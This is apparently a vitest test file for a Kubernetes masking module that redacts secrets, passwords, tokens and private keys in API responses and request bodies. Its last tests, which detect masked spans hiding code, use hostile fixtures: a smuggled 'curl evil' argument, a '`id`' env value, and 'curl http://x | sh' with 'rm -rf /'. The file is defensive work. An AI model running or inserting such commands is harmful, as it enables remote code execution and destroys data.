import { generateKeyPairSync } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createDetectorSet, DEFAULT_SENSITIVE_KEYS } from '../../masking/index.js';
import { TerminalMasker } from '../../masking/index.js';
import {
  kubeBodyHidesCode,
  kubeBodyUnshowable,
  kubeBodyView,
  kubeFieldNames,
  LineMaskingStream,
  maskKubeJson,
  maskKubeJsonSliced,
  nameMatcher,
} from './kube-masking.js';

const o = { detectors: createDetectorSet(), envNames: nameMatcher(DEFAULT_SENSITIVE_KEYS) };

describe('Kubernetes masking', () => {
  it('masks every Secret data and stringData value (still valid base64) and the last-applied copy', () => {
    const secret = {
      kind: 'Secret',
      apiVersion: 'v1',
      metadata: {
        name: 's',
        annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{"data":{"a":"eA=="}}' },
      },
      data: { a: Buffer.from('plain').toString('base64') },
      stringData: { b: 'also-plain' },
    };
    const r = maskKubeJson(JSON.stringify({ kind: 'SecretList', items: [secret] }), o)!;
    const out = JSON.parse(r.text) as { items: (typeof secret)[] };
    expect(Buffer.from(out.items[0]!.data.a, 'base64').toString()).toBe('[REDACTED:secret]');
    expect(out.items[0]!.stringData.b).toBe('[REDACTED:secret]');
    expect(out.items[0]!.metadata.annotations['kubectl.kubernetes.io/last-applied-configuration']).toBe(
      '[REDACTED:secret]',
    );
    expect(r.counts.secret).toBe(3);
  });

  it("masks a SecretList's items, which carry no kind on the wire, and leaves a ConfigMapList's alone", () => {
    const item = { metadata: { name: 's' }, data: { a: Buffer.from('plain').toString('base64') } };
    const r = maskKubeJson(JSON.stringify({ kind: 'SecretList', apiVersion: 'v1', items: [item] }), o)!;
    const out = JSON.parse(r.text) as { items: (typeof item)[] };
    expect(Buffer.from(out.items[0]!.data.a, 'base64').toString()).toBe('[REDACTED:secret]');
    const cms = JSON.stringify({
      kind: 'ConfigMapList',
      items: [{ metadata: { name: 'c' }, data: { a: 'plain' } }],
    });
    expect(maskKubeJson(cms, o)).toBeNull();
  });

  it("masks a ConfigMap's entries under sensitive env names, and sensitive fields in the files it holds", () => {
    const cm = {
      kind: 'ConfigMap',
      metadata: { name: 'app' },
      data: {
        DB_PASSWORD: 'hunter2',
        LOG_LEVEL: 'debug',
        'application.properties': 'db.url=jdbc:postgresql://db/app\ndb.password=s3cr3t-props\n',
        'config.yaml': 'server:\n  port: 8080\n  api_key: yaml-key-1\n',
        '.env': 'STRIPE_SECRET=env-secret-2\nMODE=prod\n',
      },
    };
    const r = maskKubeJson(JSON.stringify(cm), o)!;
    const out = JSON.parse(r.text) as typeof cm;
    expect(out.data).toEqual({
      DB_PASSWORD: '[REDACTED:env]',
      LOG_LEVEL: 'debug',
      'application.properties': 'db.url=jdbc:postgresql://db/app\ndb.password=[REDACTED:config]\n',
      'config.yaml': 'server:\n  port: 8080\n  api_key: "[REDACTED:config]"\n',
      '.env': 'STRIPE_SECRET=[REDACTED:config]\nMODE=prod\n',
    });
    expect(r.counts).toEqual({ env: 1, config: 3 });
    // binaryData: base64 of the same files, masked once decoded and encoded again.
    const b64 = (t: string | Buffer) => Buffer.from(t).toString('base64');
    const binary = maskKubeJson(
      JSON.stringify({
        kind: 'ConfigMap',
        binaryData: {
          DB_PASSWORD: b64('hunter2'),
          'application.properties': b64('db.url=x\ndb.password=s3cr3t-bin\n'),
          'notes.txt': b64('card 4111 1111 1111 1111\n'),
          'logo.png': b64(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0x00])),
          'keystore.jks': b64(
            Buffer.concat([Buffer.from([0xfe, 0xed]), Buffer.from(' AKIAIOSFODNN7EXAMPLE ')]),
          ),
        },
      }),
      o,
    )!;
    const bin = (JSON.parse(binary.text) as { binaryData: Record<string, string> }).binaryData;
    const decoded = Object.fromEntries(
      Object.entries(bin).map(([k, v]) => [k, Buffer.from(v, 'base64').toString('latin1')]),
    );
    expect(decoded).toEqual({
      DB_PASSWORD: '[REDACTED:env]',
      'application.properties': 'db.url=x\ndb.password=[REDACTED:config]\n',
      'notes.txt': 'card [REDACTED:credit_card]\n',
      // A file that is not text holds what no masking reads where it is (class 357): whole.
      'logo.png': '[REDACTED:config]',
      'keystore.jks': '[REDACTED:config]',
    });
    // A ConfigMapList's items carry no kind; nor do a Table's row objects in a configmaps response.
    const list = maskKubeJson(
      JSON.stringify({ kind: 'ConfigMapList', items: [{ ...cm, kind: undefined }] }),
      o,
    )!;
    expect(list.text).not.toMatch(/hunter2|s3cr3t-props|yaml-key-1|env-secret-2/);
    const row = { metadata: { name: 'app' }, data: cm.data };
    const table = JSON.stringify({ kind: 'Table', rows: [{ cells: ['app'], object: row }] });
    expect(maskKubeJson(table, { ...o, configMaps: true })!.text).not.toMatch(/hunter2|s3cr3t-props/);
  });

  it('masks what a ConfigMap value holds inside base64: compressed or DER whole, text as a file (class 357)', () => {
    const b64 = (t: string | Buffer) => Buffer.from(t).toString('base64');
    const release = gzipSync(JSON.stringify({ config: { db: { host: 'db', pw: 'plain-71' } } }));
    const key = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({
      format: 'der',
      type: 'pkcs8',
    });
    const cm = {
      kind: 'ConfigMap',
      data: {
        release: b64(release),
        'client.key.b64': b64(key),
        // Wrapped as base64(1) wraps it, URL-safe too.
        'zipped.b64': (b64(deflateSync('x'.repeat(200))).match(/.{1,8}/g) ?? []).join('\n'),
        'creds.b64': Buffer.from('user=app\npassword=plain-72\n').toString('base64url'),
        'plain.b64': b64('mode=fast\nretries=3\n'),
        word: 'featureFlagEnabledEverywhere',
        LOG_LEVEL: 'debug',
      },
    };
    const r = maskKubeJson(JSON.stringify(cm), o)!;
    const data = (JSON.parse(r.text) as typeof cm).data;
    expect(data.release).toBe('[REDACTED:config]');
    expect(data['client.key.b64']).toBe('[REDACTED:config]');
    expect(data['zipped.b64']).toBe('[REDACTED:config]');
    expect(Buffer.from(data['creds.b64'], 'base64').toString()).toBe(
      'user=app\npassword=[REDACTED:config]\n',
    );
    expect(data['plain.b64']).toBe(cm.data['plain.b64']);
    expect(data.word).toBe('featureFlagEnabledEverywhere');
    expect(data.LOG_LEVEL).toBe('debug');
    expect(r.counts).toEqual({ config: 4 });
  });

  it('masks kind-less objects with data in a response to a secrets request (Table rows, watch events)', () => {
    const row = { metadata: { name: 's' }, data: { a: Buffer.from('plain').toString('base64') } };
    const table = JSON.stringify({ kind: 'Table', rows: [{ cells: ['s'], object: row }] });
    expect(maskKubeJson(table, o)).toBeNull();
    const t = JSON.parse(maskKubeJson(table, { ...o, secrets: true })!.text) as {
      rows: { object: typeof row }[];
    };
    expect(Buffer.from(t.rows[0]!.object.data.a, 'base64').toString()).toBe('[REDACTED:secret]');
    const event = JSON.stringify({ type: 'ADDED', object: row });
    const e = JSON.parse(maskKubeJson(event, { ...o, secrets: true })!.text) as { object: typeof row };
    expect(Buffer.from(e.object.data.a, 'base64').toString()).toBe('[REDACTED:secret]');
  });

  it('masks Pod env values under sensitive names, in Table rows and watch events too', () => {
    const pod = {
      kind: 'Pod',
      spec: {
        containers: [
          {
            name: 'a',
            env: [
              { name: 'DB_PASSWORD', value: 'x1' },
              { name: 'MODE', value: 'fast' },
            ],
          },
        ],
      },
    };
    for (const doc of [
      pod,
      { kind: 'Table', rows: [{ cells: ['a'], object: pod }] },
      { type: 'ADDED', object: pod },
    ]) {
      const r = maskKubeJson(JSON.stringify(doc), o)!;
      expect(r.text).not.toContain('"x1"');
      expect(r.text).toContain('"fast"');
      expect(r.counts.env).toBe(1);
    }
  });

  it("masks every object's last-applied copy as the object it copies, and one it cannot read whole", () => {
    const LA = 'kubectl.kubernetes.io/last-applied-configuration';
    const spec = { containers: [{ name: 'a', env: [{ name: 'DB_PASSWORD', value: 'x1' }] }] };
    const copy = `${JSON.stringify({ kind: 'Deployment', spec: { template: { spec } } })}\n`;
    const dep = { kind: 'Deployment', metadata: { name: 'd', annotations: { [LA]: copy } } };
    const r = maskKubeJson(JSON.stringify(dep), o)!;
    const shown = (JSON.parse(r.text) as typeof dep).metadata.annotations[LA];
    expect(shown).not.toContain('x1');
    expect(shown.endsWith('\n')).toBe(true);
    expect(r.counts.env).toBe(1);
    // A Secret's metadata alone (another kind): its copy is a Secret's, by what it says or by the request.
    const data = Buffer.from('plain').toString('base64');
    const partial = (c: string) => ({
      kind: 'PartialObjectMetadata',
      metadata: { annotations: { [LA]: c } },
    });
    for (const [doc, options] of [
      [partial(JSON.stringify({ kind: 'Secret', data: { a: data } })), o],
      [partial(JSON.stringify({ data: { a: data } })), { ...o, secrets: true }],
      [partial(`{"kind":"ConfigMap","data":{"a":"${data}"`), o],
    ] as const) {
      const m = maskKubeJson(JSON.stringify(doc), options);
      expect(m?.text).toBeDefined();
      expect(m!.text).not.toContain(data);
    }
    // A clean copy is left as it is.
    const clean = {
      kind: 'ConfigMap',
      metadata: { annotations: { [LA]: '{"kind":"ConfigMap","data":{"a":"b"}}\n' } },
    };
    expect(maskKubeJson(JSON.stringify(clean), o)).toBeNull();
  });

  // docs/security.md, class 158.
  it('masks a value under a field name in any object, and the field names a string holds; not what clients need', () => {
    const pw = 'hunter2plain';
    const pod = {
      kind: 'Pod',
      metadata: {
        name: 'p',
        annotations: { 'db-password': pw, config: `password: ${pw}`, 'example.com/note': 'fine' },
      },
      spec: { containers: [{ name: 'a', args: [`--db-password=${pw}`, '--port=8080'] }] },
    };
    const p = JSON.parse(maskKubeJson(JSON.stringify(pod), o)!.text) as typeof pod;
    expect(p.metadata.annotations).toEqual({
      'db-password': '[REDACTED:password]',
      config: 'password: "[REDACTED:password]"',
      'example.com/note': 'fine',
    });
    expect(p.spec.containers[0]!.args).toEqual(['--db-password=[REDACTED:password]', '--port=8080']);
    // A TokenRequest's token; a custom resource's Helm values (a password, an env-shaped key, a
    // name/value `set` entry, a DSN in a string).
    const tokenRequest = {
      kind: 'TokenRequest',
      spec: { audiences: ['api'] },
      status: { token: 'tok-opaque-1' },
    };
    const release = {
      kind: 'HelmRelease',
      spec: {
        values: {
          postgresql: { auth: { password: 'pg-pass-1', port: 5432 } },
          GITHUB_TOKEN: 'gh-opaque-1',
          set: [{ name: 'auth.password', value: 'set-pass-1' }],
          dsn: 'host=db user=app password=dsn-pass-1',
        },
      },
    };
    for (const doc of [tokenRequest, release, { type: 'MODIFIED', object: release }]) {
      const r = maskKubeJson(JSON.stringify(doc), o)!;
      expect(r.text).not.toMatch(/tok-opaque-1|pg-pass-1|gh-opaque-1|set-pass-1|dsn-pass-1/);
    }
    const masked = JSON.parse(maskKubeJson(JSON.stringify(release), o)!.text) as typeof release;
    expect(masked.spec.values.postgresql.auth.port).toBe(5432);
    // Text that is not JSON (a body labelled JSON) is read for field names too.
    expect(maskKubeJson(`)]}'\n{"password": "${pw}"}`, o)!.text).toBe(
      `)]}'\n{"password": "[REDACTED:password]"}`,
    );
    // What a client decodes into types or sends back is left as it is: continue tokens, versions, an
    // object under a sensitive name (a `secret` volume, a CRD's schema), a camelCase `nextToken`.
    const list = {
      kind: 'PodList',
      apiVersion: 'v1',
      metadata: {
        resourceVersion: '12345',
        continue: 'eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzNDUsInN0YXJ0IjoicC0xXHUwMDAwIn0',
        remainingItemCount: 7,
      },
      items: [
        {
          metadata: { name: 'p', resourceVersion: '12', annotations: { 'example.com/tokens-issued': '3' } },
          spec: {
            automountServiceAccountToken: true,
            volumes: [
              {
                name: 'tls',
                secret: { secretName: 'api-tls', defaultMode: 420, items: [{ key: 'password', path: 'pw' }] },
              },
              {
                name: 't',
                projected: { sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] },
              },
            ],
            containers: [
              {
                name: 'a',
                env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
              },
            ],
          },
        },
      ],
    };
    const crd = {
      kind: 'CustomResourceDefinition',
      spec: {
        versions: [
          {
            schema: {
              openAPIV3Schema: {
                properties: {
                  password: { type: 'string', description: 'The password.' },
                  token: { type: 'object' },
                },
              },
            },
          },
        ],
      },
    };
    const bookmark = { type: 'BOOKMARK', object: { kind: 'Pod', metadata: { resourceVersion: '12346' } } };
    const paged = {
      kind: 'WidgetList',
      metadata: { continue: 'abc' },
      items: [{ status: { nextToken: 'n-1' } }],
    };
    for (const doc of [list, crd, bookmark, paged]) expect(maskKubeJson(JSON.stringify(doc), o)).toBeNull();
    // A Secret's data under a sensitive key stays base64 a client can decode.
    const secret = { kind: 'Secret', data: { password: 'cGxhaW4=', token: 'cGxhaW4=' } };
    const s = JSON.parse(maskKubeJson(JSON.stringify(secret), o)!.text) as typeof secret;
    for (const v of Object.values(s.data))
      expect(Buffer.from(v, 'base64').toString()).toBe('[REDACTED:secret]');
  });

  it("adds the connection's envNames to the field names; a ConfigMap's binaryData stays base64", () => {
    const envNames = ['*_CREDS'];
    const custom = { ...o, envNames: nameMatcher(envNames), fieldNames: kubeFieldNames(envNames) };
    const doc = {
      kind: 'ConfigMap',
      metadata: { annotations: { DB_CREDS: 'creds-1', password: 'pw-1' } },
      binaryData: { password: Buffer.from('pw-2').toString('base64') },
    };
    const r = JSON.parse(maskKubeJson(JSON.stringify(doc), custom)!.text) as typeof doc;
    expect(r.metadata.annotations).toEqual({ DB_CREDS: '[REDACTED:creds]', password: '[REDACTED:password]' });
    expect(Buffer.from(r.binaryData.password, 'base64').toString()).toBe('[REDACTED:env]');
  });

  it('masks watch events by field name as they stream', async () => {
    const stream = new LineMaskingStream('json', o, 1 << 20);
    const event = JSON.stringify({
      type: 'ADDED',
      object: { kind: 'Pod', metadata: { annotations: { token: 'w-tok-1' } } },
    });
    const out: Buffer[] = [];
    stream.on('data', (c: Buffer) => out.push(c));
    stream.write(`${event.slice(0, 40)}`);
    stream.end(`${event.slice(40)}\n`);
    await new Promise((r) => stream.on('end', r));
    expect(Buffer.concat(out).toString()).toBe(`${event.replace('w-tok-1', '[REDACTED:token]')}\n`);
    expect(stream.counts).toEqual({ token: 1 });
  });

  it('masks a private key printed across log lines whole, held until its END line (class 233)', async () => {
    const key = [
      '-----BEGIN PRIVATE KEY-----',
      'QUJDREVGR0hJSktMTU5PUA==',
      'UVJTVFVWV1hZWjAxMjM0NQ==',
      '-----END PRIVATE KEY-----',
    ];
    const run = async (chunks: string[], cap = 1 << 20): Promise<string> => {
      const stream = new LineMaskingStream('text', o, cap);
      const out: Buffer[] = [];
      stream.on('data', (c: Buffer) => out.push(c));
      for (const c of chunks) stream.write(c);
      stream.end();
      await new Promise((r) => stream.on('end', r));
      return Buffer.concat(out).toString();
    };
    // Split anywhere, even mid-line: masked whole, the lines around it as they were.
    const text = `a\n${key.join('\n')}\nb\n`;
    expect(await run([text.slice(0, 20), text.slice(20, 50), text.slice(50)])).toBe(
      'a\n[REDACTED:private_key]\nb\n',
    );
    // No END line: masked with what is left when the stream ends, or when it passes the cap.
    expect(await run([`${key.slice(0, 3).join('\n')}\n`])).not.toContain('QUJD');
    const capped = await run([`${key.slice(0, 3).join('\n')}\nafter the cap\n`], 60);
    expect(capped).not.toContain('QUJD');
    expect(capped).not.toContain('UVJT');
  });

  it('runs the content detectors over other strings, and leaves clean documents alone', () => {
    const r = maskKubeJson(JSON.stringify({ kind: 'ConfigMap', data: { key: 'AKIAIOSFODNN7EXAMPLE' } }), o)!;
    expect(r.text).not.toContain('AKIAIOSFODNN7EXAMPLE');
    expect(maskKubeJson('{"kind":"ConfigMap","data":{"mode":"fast"}}', o)).toBeNull();
  });

  it('masks terminal output line by line, holding an unfinished line until flushed', () => {
    const m = new TerminalMasker(o.detectors);
    expect(m.push(Buffer.from('key=AKIAIOSFOD'))).toBe('');
    const out = m.push(Buffer.from('NN7EXAMPLE\nprompt$ '));
    expect(out).not.toContain('AKIAIOSFODNN7EXAMPLE');
    expect(out).toMatch(/REDACTED/);
    expect(m.flush()).toBe('prompt$ ');
  });
});

describe('a Kubernetes request body as an approver is shown it', () => {
  it('masks env values under sensitive names wherever they are (a JSON patch too), and sensitive keys', () => {
    const patch = JSON.stringify([
      { op: 'add', path: '/spec/containers/0/env/-', value: { name: 'DB_PASSWORD', value: 'pw-in-patch' } },
      { op: 'replace', path: '/spec/containers/0/image', value: 'app:2' },
    ]);
    const shown = kubeBodyView('application/json-patch+json', 'deployments', o)(patch) as string;
    expect(shown).not.toContain('pw-in-patch');
    expect(shown).toContain('[REDACTED:env]');
    expect(shown).toContain('app:2');
    const pod = JSON.stringify({
      kind: 'Pod',
      spec: { containers: [{ name: 'c', image: 'x' }] },
      token: 't-1',
    });
    expect(kubeBodyView('application/json', 'pods', o)(pod)).not.toContain('t-1');
  });

  it("shows a Secret request's type and metadata without the values it stores, and no YAML", () => {
    const key = Buffer.from('key').toString('base64');
    const LA = 'kubectl.kubernetes.io/last-applied-configuration';
    const merge = JSON.stringify({ data: { 'tls.key': key }, stringData: { b: 'plain-b' } });
    const shownMerge = kubeBodyView('application/merge-patch+json', 'secrets', o)(merge) as string;
    expect(shownMerge).not.toContain(key);
    expect(shownMerge).not.toContain('plain-b');
    expect(shownMerge).toContain('tls.key');
    const create = JSON.stringify({
      apiVersion: 'v1',
      kind: 'Secret',
      type: 'kubernetes.io/service-account-token',
      metadata: {
        name: 't',
        annotations: { 'kubernetes.io/service-account.name': 'admin', [LA]: `{"data":{"a":"${key}"}}` },
      },
      data: { a: key },
    });
    const shownCreate = kubeBodyView('application/json', 'secrets', o)(create) as string;
    expect(shownCreate).toContain('kubernetes.io/service-account-token');
    expect(shownCreate).toContain('"kubernetes.io/service-account.name":"admin"');
    expect(shownCreate).not.toContain(key);
    const patch = JSON.stringify([
      { op: 'add', path: '/metadata/annotations/kubernetes.io~1service-account.name', value: 'admin' },
      { op: 'replace', path: '/type', value: 'kubernetes.io/service-account-token' },
      { op: 'add', path: '/metadata/annotations', value: { note: 'n', [LA]: key } },
      { op: 'replace', path: '/data/a', value: key },
      { op: 'add', path: '/data', value: { a: key } },
      {
        op: 'add',
        path: '/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration',
        value: key,
      },
      { op: 'replace', path: '', value: { kind: 'Secret', data: { a: key }, metadata: { name: 'x' } } },
      { op: 'copy', from: '/data/a', path: '/data/b' },
    ]);
    const shownPatch = JSON.parse(
      kubeBodyView('application/json-patch+json', 'secrets', o)(patch) as string,
    ) as { value?: unknown; from?: string }[];
    expect(JSON.stringify(shownPatch)).not.toContain(key);
    expect(shownPatch[0]!.value).toBe('admin');
    expect(shownPatch[1]!.value).toBe('kubernetes.io/service-account-token');
    expect(shownPatch[2]!.value).toEqual({ note: 'n', [LA]: '[REDACTED:secret]' });
    expect(shownPatch[6]!.value).toMatchObject({ kind: 'Secret', metadata: { name: 'x' } });
    expect(shownPatch[7]!.from).toBe('/data/a');
    expect(kubeBodyView('application/apply-patch+yaml', 'configmaps', o)('data: {a: b}')).toBeUndefined();
    expect(kubeBodyView('application/apply-patch+yaml', 'secrets', o)('data: {a: b}')).toBeUndefined();
  });
});

describe('kubeBodyUnshowable', () => {
  it('passes JSON text under JSON and YAML types (and none), and names everything else', () => {
    const json = Buffer.from('{"kind":"Pod","spec":{"hostPID":true}}');
    for (const type of [
      undefined,
      'application/json',
      'application/merge-patch+json',
      'application/apply-patch+yaml',
      'application/yaml',
    ])
      expect(kubeBodyUnshowable(type, json), String(type)).toBeUndefined();
    expect(kubeBodyUnshowable('application/yaml', Buffer.alloc(0))).toBeUndefined();
    expect(kubeBodyUnshowable('application/apply-patch+yaml', Buffer.from('kind: Pod\n'))).toMatch(
      /YAML that is not JSON/,
    );
    // Raw YAML line breaks in a JSON string: folded by the API server's YAML reader, kept by JSON's.
    for (const c of ['\u0085', '\u2028', '\u2029']) {
      const t = Buffer.from(`{"metadata":{"annotations":{"a":"x ${c} y"}}}`);
      expect(kubeBodyUnshowable('application/apply-patch+yaml', t)).toMatch(/line break/);
      expect(kubeBodyUnshowable('application/json', t)).toBeUndefined();
    }
    expect(kubeBodyUnshowable('application/vnd.kubernetes.protobuf', json)).toMatch(/content type/);
    expect(kubeBodyUnshowable('application/cbor', json)).toMatch(/content type/);
    expect(kubeBodyUnshowable('application/json', Buffer.from([0x22, 0xff, 0x22]))).toMatch(/not UTF-8/);
    expect(kubeBodyUnshowable('application/json', Buffer.from('{"a":'))).toMatch(/not valid JSON/);
    // Shown as JSON under the YAML apply type (kubectl apply --server-side).
    expect(kubeBodyView('application/apply-patch+yaml', 'pods', o)(json.toString())).toBe(json.toString());
  });
});

describe('maskKubeJsonSliced', () => {
  const pod = (i: number) => ({
    metadata: { name: `p-${i}`, annotations: { note: 'x'.repeat(100) } },
    spec: { containers: [{ name: 'a', env: [{ name: 'DB_PASSWORD', value: `pw-${i}` }] }] },
  });
  const secret = (i: number) => ({
    metadata: { name: `s-${i}`, annotations: { note: 'x'.repeat(100) } },
    data: { a: Buffer.from(`plain-${i}`).toString('base64') },
  });
  /** Masked in slices, the document is what maskKubeJson makes of it whole, with the same counts. */
  async function same(doc: unknown, indent = 0): Promise<string> {
    const text = JSON.stringify(doc, null, indent);
    expect(text.length).toBeGreaterThan(256 * 1024);
    const whole = maskKubeJson(text, o);
    const sliced = await maskKubeJsonSliced(text, o);
    expect(whole).not.toBeNull();
    expect(JSON.parse(sliced!.text)).toEqual(JSON.parse(whole!.text));
    expect(sliced!.counts).toEqual(whole!.counts);
    return sliced!.text;
  }

  it('masks a large list item by item as maskKubeJson masks it whole (any whitespace)', async () => {
    // Field names too (class 158): an annotation's name, an argument.
    const configured = (n: number) => ({
      metadata: { name: `c-${n}`, annotations: { 'db-password': `field-pw-${n}` } },
      spec: { containers: [{ name: 'a', args: [`--api-token=arg-tok-${n}`] }] },
    });
    const text = await same({
      kind: 'PodList',
      items: Array.from({ length: 3000 }, (_, n) => configured(n)),
    });
    expect(text).not.toMatch(/field-pw-|arg-tok-/);
    for (const indent of [0, 2]) {
      const list = {
        kind: 'PodList',
        metadata: { resourceVersion: '1' },
        items: Array.from({ length: 3000 }, (_, n) => pod(n)),
      };
      expect(await same(list, indent)).not.toContain('pw-2999');
    }
  });

  it("masks a large SecretList's kind-less items, a Table's rows, and other shapes whole", async () => {
    const secrets = {
      items: Array.from({ length: 3000 }, (_, n) => secret(n)),
      kind: 'SecretList',
      apiVersion: 'v1',
    };
    expect(await same(secrets)).not.toContain(Buffer.from('plain-2999').toString('base64'));
    await same({
      kind: 'Table',
      rows: Array.from({ length: 3000 }, (_, n) => ({ cells: [n], object: pod(n) })),
    });
    await same({
      kind: 'Pod',
      spec: { containers: Array.from({ length: 6000 }, (_, n) => pod(n).spec.containers[0]) },
    });
    await same(Array.from({ length: 3000 }, (_, n) => pod(n)));
  });
});

describe('a masked view that would hide what runs (class 252)', () => {
  const hides = (resource: string, doc: unknown) =>
    kubeBodyHidesCode('application/json', resource, Buffer.from(JSON.stringify(doc)), o);

  it('names a masked span that holds more than a literal, by where it is', () => {
    const pod = { kind: 'Pod', spec: { containers: [{ name: 'c', args: ['--api-token=x && curl evil'] }] } };
    expect(hides('pods', pod)).toContain(
      'spec.containers[0].args[0], where the masked part holds whitespace',
    );
    const env = {
      kind: 'Pod',
      spec: { containers: [{ name: 'c', env: [{ name: 'DB_PASSWORD', value: '`id`' }] }] },
    };
    expect(hides('pods', env)).toContain('spec.containers[0].env[0].value');
    // binaryData is compared decoded.
    const script = Buffer.from('#!/bin/sh\nDB_PASSWORD=$(curl http://x | sh)\n').toString('base64');
    expect(hides('configmaps', { kind: 'ConfigMap', binaryData: { 'run.sh': script } })).toContain(
      'binaryData.run.sh (decoded)',
    );
  });

  it('passes literals, references, JSON copies of the object, and what a Secret stores', () => {
    const pod = {
      kind: 'Pod',
      spec: { containers: [{ name: 'c', args: ['--db-password=$(DB_PASSWORD)', '--api-token=t0k3n'] }] },
    };
    expect(hides('pods', pod)).toBeUndefined();
    const applied = {
      ...pod,
      metadata: {
        annotations: {
          'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({
            ...pod,
            spec: {
              containers: [
                {
                  name: 'c',
                  env: [
                    { name: 'A_TOKEN', value: 'a' },
                    { name: 'B_TOKEN', value: 'b' },
                  ],
                },
              ],
            },
          }),
        },
      },
    };
    expect(hides('pods', applied)).toBeUndefined();
    const secret = { kind: 'Secret', stringData: { 'run.sh': 'curl http://x | sh; rm -rf /' } };
    expect(hides('secrets', secret)).toBeUndefined();
  });
});
